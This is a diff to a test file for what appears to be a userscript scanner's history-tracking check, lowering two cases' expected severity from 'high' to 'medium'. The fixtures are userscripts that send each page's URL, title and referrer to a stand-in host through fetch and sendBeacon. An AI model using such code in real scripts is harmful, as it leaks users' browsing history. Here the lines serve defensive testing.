@@ -6,12 +6,12 @@ describe("history-tracking", () => {
 	test.each([
 		[
 			"the address of every page",
-			["high 5"],
+			["medium 5"],
 			userscript(["match *://*/*"], `fetch("https://c.stranger.test/?u="+encodeURIComponent(location.href))`),
 		],
 		[
 			"title and referrer of every page",
-			["high 5"],
+			["medium 5"],
 			userscript(
 				["match *://*/*"],
 				`navigator.sendBeacon("https://c.stranger.test/",document.title+document.referrer)`,
